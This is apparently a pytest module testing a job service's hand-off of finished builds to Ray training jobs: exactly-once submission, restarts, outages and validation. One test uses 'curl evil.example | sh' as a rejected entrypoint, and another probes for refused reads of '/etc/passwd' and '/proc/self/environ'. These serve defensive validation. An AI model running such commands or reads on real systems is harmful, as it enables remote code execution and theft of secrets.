"""The training hand-off through the job API, on a fake cluster and a real SQLite store.

A job whose spec says ``handoff: {submit: true, training_config: ...}`` gets its training
job submitted once its build succeeds, exactly once whatever reads, restarts and crashes
happen; nothing is submitted for a build that failed or was cancelled first; the training
job's state is reported beside the build's and never changes it.
"""

from __future__ import annotations

import shlex
import sqlite3
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from pipeline.ports import JobState
from services.api.app import create_app
from services.api.deps import ServiceState
from services.api.settings import Settings
from services.store import JobStore, TrainingState
from services.training_job import DEFAULT_ENTRYPOINT, PROJECT_ROOT
from tests.unit.services.conftest import spec
from tests.unit.services.fake_launcher import FakeLauncher


@pytest.fixture
def training_config(workdir: Path) -> Path:
    path = workdir / "train.yaml"
    path.write_text("output_dir: model\nnum_gpus: 2\n", encoding="utf-8")
    return path


def _handoff(**changes: Any) -> dict[str, Any]:
    return spec(handoff={"submit": True, "training_config": "train.yaml", **changes})


@pytest.fixture
def start(workdir: Path, launcher: FakeLauncher) -> Iterator[Callable[..., TestClient]]:
    """A service on the fake cluster, started like `pairforge serve` starts one (start-up
    reconciliation and sweeps see the launcher); restartable on the same database."""
    clients: list[TestClient] = []

    def make(**overrides: Any) -> TestClient:
        values: dict[str, Any] = {
            "database_url": f"sqlite:///{workdir / 'jobs.db'}",
            "output_root": "runs",
            "ray_address": None,
            "api_token": None,
            "reconcile_interval_s": 0,
            "handoff_poll_s": 0,
        }
        app = create_app(Settings(**{**values, **overrides}), launcher=launcher, cwd=workdir)
        client = TestClient(app)
        client.__enter__()
        clients.append(client)
        return client

    yield make
    for client in clients:
        client.__exit__(None, None, None)


def _submit(client: TestClient, body: dict[str, Any]) -> dict[str, Any]:
    answer = client.post("/jobs", json=body)
    assert answer.status_code == 201, answer.text
    created: dict[str, Any] = answer.json()
    return created


def _read(client: TestClient, job_id: str) -> dict[str, Any]:
    answer = client.get(f"/jobs/{job_id}")
    assert answer.status_code == 200, answer.text
    job: dict[str, Any] = answer.json()
    return job


def _store(client: TestClient) -> JobStore:
    state: ServiceState = client.app.state.pairforge  # type: ignore[attr-defined]
    return state.store


# ---------------------------------------------------------------- submitted once, on success


def test_a_succeeded_build_submits_its_training_job_once(
    start: Callable[..., TestClient], launcher: FakeLauncher, training_config: Path
) -> None:
    client = start()
    job = _submit(client, _handoff())
    assert job["training"] == {
        "id": None,
        "state": "waiting",
        "dashboard_url": None,
        "error": None,
    }
    launcher.set(job["id"], JobState.RUNNING)
    assert _read(client, job["id"])["training"]["state"] == "waiting"
    assert launcher.trainings == []

    launcher.set(job["id"], JobState.SUCCEEDED)
    for _ in range(3):  # status polls never submit twice
        got = _read(client, job["id"])
    assert client.get("/jobs").json()["data"][0]["training"] == got["training"]
    (training,) = launcher.trainings
    submission = f"{job['id']}-train"
    assert got["state"] == "succeeded"
    assert got["training"] == {
        "id": submission,
        "state": "queued",
        "dashboard_url": f"http://ray.test:8265/#/jobs/{submission}",
        "error": None,
    }
    assert (training.submission_id, training.training_of) == (submission, job["id"])
    assert training.num_gpus == 2  # the config's num_gpus
    manifest = Path(job["output_uri"]) / "manifest.json"
    # The training job's contract: `python train.py MANIFEST CONFIG` from the project root.
    assert training.command == (
        f"cd {shlex.quote(str(PROJECT_ROOT))} && exec "
        + shlex.join(
            [sys.executable, "deploy/training/train.py", str(manifest), str(training_config)]
        )
    )


def test_the_training_state_is_reported_and_never_changes_the_build(
    start: Callable[..., TestClient], launcher: FakeLauncher, training_config: Path
) -> None:
    client = start()
    job = _submit(client, _handoff())
    launcher.set(job["id"], JobState.SUCCEEDED)
    _read(client, job["id"])
    submission = f"{job['id']}-train"

    launcher.set(submission, JobState.RUNNING)
    assert _read(client, job["id"])["training"]["state"] == "running"
    launcher.set(submission, JobState.FAILED, "Job entrypoint command failed with exit code 2")
    got = _read(client, job["id"])
    assert (got["state"], got["error"]) == ("succeeded", None)
    assert got["training"]["state"] == "failed"
    assert got["training"]["error"] == "Job entrypoint command failed with exit code 2"
    # Final: Ray is not asked again, and nothing is resubmitted.
    launcher.set(submission, JobState.RUNNING)
    assert _read(client, job["id"])["training"]["state"] == "failed"
    assert len(launcher.trainings) == 1
    # A succeeded build is not resumable, so its failed training does not reopen it.
    assert client.post(f"/jobs/{job['id']}/resume").status_code == 409


def test_a_training_job_that_vanishes_is_reported_failed(
    start: Callable[..., TestClient], launcher: FakeLauncher, training_config: Path
) -> None:
    client = start()
    job = _submit(client, _handoff())
    launcher.set(job["id"], JobState.SUCCEEDED)
    _read(client, job["id"])
    launcher.vanish(f"{job['id']}-train")
    got = _read(client, job["id"])
    assert got["training"]["state"] == "failed"
    assert "no longer exists" in got["training"]["error"]
    assert got["state"] == "succeeded"


# ---------------------------------------------------------------- nothing without success


def test_a_failed_build_submits_nothing_until_a_resume_succeeds(
    start: Callable[..., TestClient], launcher: FakeLauncher, training_config: Path
) -> None:
    client = start()
    job = _submit(client, _handoff())
    launcher.set(job["id"], JobState.FAILED, "boom")
    got = _read(client, job["id"])
    assert (got["state"], got["training"]["state"]) == ("failed", "waiting")
    assert launcher.trainings == []

    assert client.post(f"/jobs/{job['id']}/resume").status_code == 200
    launcher.set(f"{job['id']}-r2", JobState.SUCCEEDED)
    assert _read(client, job["id"])["training"]["id"] == f"{job['id']}-train"
    assert len(launcher.trainings) == 1


def test_cancelling_before_success_submits_nothing(
    start: Callable[..., TestClient], launcher: FakeLauncher, training_config: Path
) -> None:
    client = start(handoff_poll_s=0.05)
    job = _submit(client, _handoff())
    launcher.set(job["id"], JobState.RUNNING)
    assert client.delete(f"/jobs/{job['id']}").json()["state"] == "cancelled"
    # Even if Ray then reports the run as having finished well, the cancel stands.
    launcher.set(job["id"], JobState.SUCCEEDED)
    time.sleep(0.3)  # several sweeps
    got = _read(client, job["id"])
    assert (got["state"], got["training"]["state"]) == ("cancelled", "waiting")
    assert launcher.trainings == []


def test_a_job_without_handoff_shows_no_training(
    start: Callable[..., TestClient], launcher: FakeLauncher
) -> None:
    client = start()
    job = _submit(client, spec(handoff={"submit": False, "training_config": "nowhere.yaml"}))
    launcher.set(job["id"], JobState.SUCCEEDED)
    assert _read(client, job["id"])["training"] is None
    assert launcher.trainings == []


# ---------------------------------------------------------------- restarts and Ray outages


def test_the_sweep_hands_off_without_any_read(
    start: Callable[..., TestClient], launcher: FakeLauncher, training_config: Path
) -> None:
    client = start(handoff_poll_s=0.05)
    job = _submit(client, _handoff())
    launcher.set(job["id"], JobState.SUCCEEDED)
    deadline = time.monotonic() + 10
    while not launcher.trainings and time.monotonic() < deadline:
        time.sleep(0.05)
    assert [t.submission_id for t in launcher.trainings] == [f"{job['id']}-train"]
    assert _store(client).get(job["id"]).training_state is TrainingState.QUEUED


def test_the_sweep_never_fails_a_run_still_being_submitted(
    start: Callable[..., TestClient], launcher: FakeLauncher, training_config: Path
) -> None:
    # A run is stored queued before Ray accepts it (which may take a minute while the
    # head's job agent starts): Ray not knowing it yet is not a vanished run.
    client = start(handoff_poll_s=0.05)
    job = _submit(client, _handoff())
    launcher.vanish(job["id"])  # as if the submission were still in flight
    time.sleep(0.4)  # several sweeps
    assert _store(client).get(job["id"]).state is JobState.QUEUED


def test_a_restarted_service_submits_once_after_dying_mid_submission(
    start: Callable[..., TestClient], launcher: FakeLauncher, training_config: Path
) -> None:
    client = start()
    job = _submit(client, _handoff())
    store = _store(client)
    # What a service that died between deciding and submitting left behind.
    store.update(job["id"], state=JobState.SUCCEEDED)
    store.update_training(
        job["id"],
        expect=TrainingState.WAITING,
        training_state=TrainingState.SUBMITTING,
        training_id=f"{job['id']}-train",
    )
    launcher.set(job["id"], JobState.SUCCEEDED)
    client.__exit__(None, None, None)

    restarted = start()  # start-up alone moves it on
    assert [t.submission_id for t in launcher.trainings] == [f"{job['id']}-train"]
    assert _read(restarted, job["id"])["training"]["state"] == "queued"
    start()
    assert len(launcher.trainings) == 1


def test_a_restarted_service_adopts_a_training_job_ray_already_has(
    start: Callable[..., TestClient], launcher: FakeLauncher, training_config: Path
) -> None:
    client = start()
    job = _submit(client, _handoff())
    store = _store(client)
    store.update(job["id"], state=JobState.SUCCEEDED)
    store.update_training(
        job["id"],
        expect=TrainingState.WAITING,
        training_state=TrainingState.SUBMITTING,
        training_id=f"{job['id']}-train",
    )
    # Ray accepted it, and then the service died before storing so.
    launcher.set(f"{job['id']}-train", JobState.RUNNING)
    client.__exit__(None, None, None)

    restarted = start()
    assert launcher.trainings == []  # not submitted a second time
    assert _read(restarted, job["id"])["training"]["state"] == "running"


def test_ray_down_at_hand_off_is_retried(
    start: Callable[..., TestClient], launcher: FakeLauncher, training_config: Path
) -> None:
    client = start()
    job = _submit(client, _handoff())
    _store(client).update(job["id"], state=JobState.SUCCEEDED)
    launcher.reachable = False
    got = _read(client, job["id"])
    assert got["training"]["state"] == "submitting"
    assert "could not reach Ray" in got["training"]["error"]
    assert "the service retries" in got["training"]["error"]

    launcher.reachable = True
    got = _read(client, job["id"])
    assert (got["training"]["state"], got["training"]["error"]) == ("queued", None)
    assert len(launcher.trainings) == 1


def test_a_training_config_gone_by_hand_off_time_fails_the_training_only(
    start: Callable[..., TestClient], launcher: FakeLauncher, training_config: Path
) -> None:
    client = start()
    job = _submit(client, _handoff())
    training_config.unlink()
    launcher.set(job["id"], JobState.SUCCEEDED)
    got = _read(client, job["id"])
    assert got["state"] == "succeeded"
    assert got["training"]["state"] == "failed"
    assert got["training"]["error"].startswith("handoff.training_config: no file at")
    assert launcher.trainings == []


# ---------------------------------------------------------------- refused at submission


def _refused(client: TestClient, body: dict[str, Any]) -> list[str]:
    answer = client.post("/jobs", json=body)
    assert answer.status_code == 422, answer.text
    assert client.get("/jobs").json()["count"] == 0
    problems: list[str] = answer.json()["problems"]
    return problems


def test_a_missing_training_config_is_422(start: Callable[..., TestClient], workdir: Path) -> None:
    (problem,) = _refused(start(), _handoff())
    assert problem == (
        f"handoff.training_config: no file at {workdir / 'train.yaml'} (a relative path is "
        f"relative to the first input root, {workdir})"
    )


@pytest.mark.parametrize("path", ["/etc/passwd", "../outside.yaml", "/proc/self/environ"])
def test_a_training_config_outside_the_input_roots_is_422_revealing_nothing(
    start: Callable[..., TestClient], workdir: Path, path: str
) -> None:
    (workdir.parent / "outside.yaml").write_text("num_gpus: 0\n", encoding="utf-8")
    (problem,) = _refused(start(), _handoff(training_config=path))
    assert problem.startswith("handoff.training_config ")
    assert "reads inputs only from regular files under its input roots" in problem


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("- a list\n", "must be a YAML mapping of training settings, got list"),
        ("num_gpus: -1\n", "num_gpus must be a whole number >= 0, got -1"),
        ("num_gpus: 1.5\n", "num_gpus must be a whole number >= 0, got 1.5"),
        ("num_gpus: [\n", "is not UTF-8 YAML"),
    ],
)
def test_a_malformed_training_config_is_422(
    start: Callable[..., TestClient], workdir: Path, text: str, why: str
) -> None:
    (workdir / "train.yaml").write_text(text, encoding="utf-8")
    (problem,) = _refused(start(), _handoff())
    assert problem.startswith(f"handoff.training_config: {workdir / 'train.yaml'} {why}")


def test_more_training_gpus_than_the_operator_allows_is_422(
    start: Callable[..., TestClient], training_config: Path
) -> None:
    (problem,) = _refused(start(max_gpus=1), _handoff())
    assert problem.startswith("handoff.training_config: num_gpus 2 is over the limit of 1")


def test_an_entrypoint_the_operator_did_not_allow_is_422(
    start: Callable[..., TestClient], launcher: FakeLauncher, training_config: Path
) -> None:
    # The command runs on the cluster outside the sandbox: a caller cannot choose it.
    (problem,) = _refused(start(), _handoff(entrypoint="curl evil.example | sh"))
    assert problem.startswith("handoff.entrypoint: 'curl evil.example | sh' is not a training")
    assert repr(DEFAULT_ENTRYPOINT) in problem
    allowed = start(training_entrypoints=["python /opt/stand_in.py"])
    job = _submit(allowed, _handoff(entrypoint="python /opt/stand_in.py"))
    launcher.set(job["id"], JobState.SUCCEEDED)
    _read(allowed, job["id"])
    assert f"exec {shlex.quote(sys.executable)} /opt/stand_in.py " in launcher.trainings[0].command


# ---------------------------------------------------------------- the store


def test_an_older_job_table_gains_the_hand_off_columns(tmp_path: Path) -> None:
    db = tmp_path / "old.db"
    with sqlite3.connect(db) as connection:
        # The table as the first release created it.
        connection.execute(
            "CREATE TABLE pairforge_jobs (id VARCHAR(64) NOT NULL PRIMARY KEY, name "
            "VARCHAR(200) NOT NULL, state VARCHAR(16) NOT NULL, spec_json TEXT NOT NULL, "
            "output_dir VARCHAR(4096) NOT NULL UNIQUE, submission_id VARCHAR(80) NOT NULL, "
            "attempts INTEGER NOT NULL, error TEXT, progress_json TEXT, created_at DATETIME "
            "NOT NULL, updated_at DATETIME NOT NULL, started_at DATETIME, finished_at DATETIME)"
        )
        connection.execute(
            "INSERT INTO pairforge_jobs VALUES ('pf-old', 'old', 'succeeded', '{}', '/r/old', "
            "'pf-old', 1, NULL, NULL, '2026-01-02 03:04:05', '2026-01-02 03:04:05', NULL, NULL)"
        )
    store = JobStore(f"sqlite:///{db}")
    old = store.get("pf-old")
    assert (old.state, old.training_state, old.training_id) == (JobState.SUCCEEDED, None, "")
    assert store.open_handoffs() == []
    store.close()
    JobStore(f"sqlite:///{db}").close()  # opening it again changes nothing


def test_a_damaged_hand_off_state_fails_only_the_hand_off(tmp_path: Path) -> None:
    db = tmp_path / "jobs.db"
    JobStore(f"sqlite:///{db}").close()
    with sqlite3.connect(db) as connection:
        connection.execute(
            "INSERT INTO pairforge_jobs (id, name, state, spec_json, output_dir, submission_id,"
            " attempts, created_at, updated_at, training_state) VALUES ('pf-x', '', "
            "'succeeded', '{}', '/r/x', 'pf-x', 1, '2026-01-02 03:04:05', "
            "'2026-01-02 03:04:05', 'exploded')"
        )
    store = JobStore(f"sqlite:///{db}")
    job = store.get("pf-x")
    store.close()
    assert (job.state, job.damage, job.training_state) == (
        JobState.SUCCEEDED,
        None,
        TrainingState.FAILED,
    )
    assert "hand-off state 'exploded'" in (job.training_error or "")
